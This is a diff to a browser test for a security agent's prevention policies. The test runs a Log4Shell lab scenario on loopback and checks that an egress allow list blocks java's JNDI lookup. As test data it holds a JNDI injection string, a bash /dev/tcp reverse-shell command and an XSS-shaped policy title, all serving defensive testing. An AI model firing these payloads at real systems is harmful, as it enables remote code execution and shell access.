@@ -3,7 +3,8 @@
  * kill-shells-under-java policy, the Log4Shell scenario's parts (the java service, the
  * directory stand-in, the shell listener) on loopback, and the java process's tree in
  * Chromium. The shell the exploit starts dies at exec, and its node says so: a stop mark
- * naming the policy, apart from the detection badges.
+ * naming the policy, apart from the detection badges. Under java-egress-allow-list instead,
+ * java's lookup is refused, and java's node carries the mark.
  *
  * The policy is scoped to the lab cgroup (/proctrail-lab under the cgroup v2 root) and only
  * this test's java is put there, so no other shell on this shared host is touched. A second
@@ -38,6 +39,7 @@ const skip = kernelSkipReason();
 if (skip) console.log(`# skipping the prevention browser test: ${skip}`);
 
 const KILL_POLICY = join(repoRoot, 'apps/agent/policies/kill-shells-under-java.yaml');
+const EGRESS_POLICY = join(repoRoot, 'apps/agent/policies/java-egress-allow-list.yaml');
 const HOSTILE_TITLE = '<img src=x onerror="window.__injected=1">shell under java';
 
 /** An alert-only twin of the kill policy, whose title is attacker-shaped text. */
@@ -98,22 +100,25 @@ describe('prevention in the browser', { skip, timeout: 300_000 }, () => {
   let dashboard: Running | undefined;
   let browser: Browser | undefined;
 
+  /** A fresh agent with `policyArgs` and a dashboard on it, for one test. */
+  async function startWith(name: string, policyArgs: string[]): Promise<void> {
+    agent = await startAgent(join(dir, `${name}.db`), policyArgs);
+    dashboard = await startDashboard(agent.url);
+  }
+
+  async function stopBoth(): Promise<void> {
+    await stop(dashboard);
+    await stop(agent);
+  }
+
   before(async () => {
     mkdirSync(cgroup, { recursive: true });
-    agent = await startAgent(join(dir, 'prevention.db'), [
-      '--policy',
-      alertPolicy(dir),
-      '--policy',
-      KILL_POLICY,
-    ]);
-    dashboard = await startDashboard(agent.url);
     browser = await launchBrowser();
   });
 
   after(async () => {
     await browser?.close();
-    await stop(dashboard);
-    await stop(agent);
+    await stopBoth();
     // Fails while another run still uses the lab cgroup: it is left for that run.
     try {
       rmdirSync(cgroup);
@@ -124,6 +129,7 @@ describe('prevention in the browser', { skip, timeout: 300_000 }, () => {
   });
 
   test("the shell killed at exec is marked with the policy's name in java's tree", async () => {
+    await startWith('kill', ['--policy', alertPolicy(dir), '--policy', KILL_POLICY]);
     const shell = await startShellListener(['id', 'exit'], { timeoutMs: 5_000 });
     const directory = await startDirectoryStandIn(
       `bash -i >& /dev/tcp/127.0.0.1/${shell.port} 0>&1`,
@@ -210,6 +216,73 @@ describe('prevention in the browser', { skip, timeout: 300_000 }, () => {
       if (identity) assert.deepEqual(await stopProcessTree(identity), []);
       await directory.close();
       await shell.close();
+      await stopBoth();
+    }
+  });
+
+  test("java's refused lookup is marked on java with the allow list's name", async () => {
+    await startWith('egress', ['--policy', EGRESS_POLICY]);
+    const directory = await startDirectoryStandIn('true');
+    const service = spawnJavaService({ PATH: process.env.PATH, HOME: '/tmp', LANG: 'C.UTF-8' });
+    try {
+      writeFileSync(join(cgroup, 'cgroup.procs'), String(service.pid));
+      const port = await service.listening;
+      const exploit = `\${jndi:ldap://127.0.0.1:${directory.port}/Exploit}`;
+      const answer = await fetch(`http://127.0.0.1:${port}/api/status`, {
+        headers: { 'X-Api-Version': exploit, 'User-Agent': 'curl/8.0' },
+        signal: AbortSignal.timeout(15_000),
+      });
+      assert.equal(answer.status, 200, 'java still serves');
+      await answer.text();
+      const [refused] = await enforcements(agent!.url, 'java-egress-allow-list', 1);
+      assert.deepEqual(directory.searches, [], 'the lookup never arrived');
+
+      const java = await query<{ items: Array<{ exec_id: string; source: string }> }>(
+        agent!.url,
+        'process.search',
+        { pid: service.pid, binary: 'java', limit: 10 },
+      );
+      const javaNode = java.items[0];
+      assert.ok(javaNode, 'java was stored');
+      assert.equal(refused?.execId, javaNode.exec_id, 'the refusal names java');
+
+      const page = await browser!.newPage({ viewport: { width: 1400, height: 900 } });
+      const errors: string[] = [];
+      page.on('pageerror', (error) => errors.push(error.message));
+      const link = new URL('/process', dashboard!.url);
+      link.searchParams.set('execId', javaNode.exec_id);
+      link.searchParams.set('source', javaNode.source);
+      await page.goto(link.toString());
+      const javaDrawn = page.locator(
+        `[data-testid=tree] g.tree-node[data-id="${javaNode.exec_id}"]`,
+      );
+      const mark = javaDrawn.locator('g.enforcement-mark');
+      await mark.waitFor({ timeout: 20_000 });
+      assert.equal(await mark.getAttribute('data-outcome'), 'blocked');
+      assert.equal(await mark.getAttribute('data-policy'), 'java-egress-allow-list');
+      assert.match(
+        (await javaDrawn.locator('text.sub').textContent()) ?? '',
+        / · blocked by java-egress-allow-list$/,
+      );
+      assert.match(
+        (await mark.locator('title').textContent()) ?? '',
+        new RegExp(
+          `^blocked by java-egress-allow-list: refused a connect to 127\\.0\\.0\\.1:${directory.port} `,
+        ),
+      );
+      assert.equal(
+        await page.locator('[data-testid=tree] g.enforcement-mark').count(),
+        1,
+        'only java was blocked',
+      );
+      await page.screenshot({ path: join(artifactsDir, 'prevention-refused-connect.png') });
+      await page.close();
+      assert.deepEqual(errors, [], 'no script errors on the page');
+    } finally {
+      const identity = identify(service.pid);
+      if (identity) assert.deepEqual(await stopProcessTree(identity), []);
+      await directory.close();
+      await stopBoth();
     }
   });
 });
